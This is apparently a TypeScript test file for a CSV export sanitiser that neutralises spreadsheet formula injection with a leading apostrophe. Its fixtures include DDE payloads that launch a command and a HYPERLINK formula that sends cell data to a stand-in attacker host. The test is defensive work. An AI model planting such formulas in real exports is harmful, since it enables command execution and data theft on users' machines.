import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { safeCsvCell, safeCsvRows } from '../../../src/lib/report/csv-cell';
import { figureCsv } from '../../../src/lib/report/figure-csv';
import { loadReportInputs } from '../../../src/lib/report/report-fs';
import { buildReport } from '../../../src/lib/report/report';
import { DATA_DIR } from '../../lib/pinned';

describe('safeCsvCell(value)', () => {
  it.each(['=HYPERLINK("http://x.invalid","click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', "=cmd|' /C calc'!A0"])(
    'neutralises the formula-like text cell %j with a leading apostrophe',
    (cell) => {
      expect(safeCsvCell(cell)).toBe(`'${cell}`);
    },
  );

  it('keeps numbers numbers, negative ones included, and plain decimal text as written', () => {
    expect(safeCsvCell(-0.0161)).toBe(-0.0161);
    expect(safeCsvCell(0)).toBe(0);
    expect(safeCsvCell('-0.0161')).toBe('-0.0161');
    expect(safeCsvCell('+1.5e-3')).toBe('+1.5e-3');
    expect(safeCsvCell('2022-06-30')).toBe('2022-06-30');
    expect(safeCsvCell('Black Monday reaches Tokyo')).toBe('Black Monday reaches Tokyo');
    expect(
      safeCsvRows([
        ['a', -1],
        ['=x', '-1'],
      ]),
    ).toEqual([
      ['a', -1],
      ["'=x", '-1'],
    ]);
  });
});

describe('figureCsv(id, report) with a curated label that looks like a formula', () => {
  it('writes the label as text a spreadsheet will not run, and the signed moves as numbers', () => {
    const inputs = loadReportInputs(DATA_DIR);
    const events = inputs.curated.overview.events;
    const evil = '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")';
    inputs.curated.overview.events = events.map((e, i) => (i === 0 ? { ...e, label: { ...e.label, zh: '@SUM(1+1)', en: evil } } : e));
    const csv = figureCsv('overview-events', buildReport(inputs, '2022-06-30'));
    const rows = parse(csv) as string[][];
    expect(rows[1]).toContain(`'${evil}`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // Black Monday's day move is a negative number, written as one (no apostrophe).
    expect(rows[1]?.some((c) => /^-0\.\d+$/.test(c))).toBe(true);
  });
});
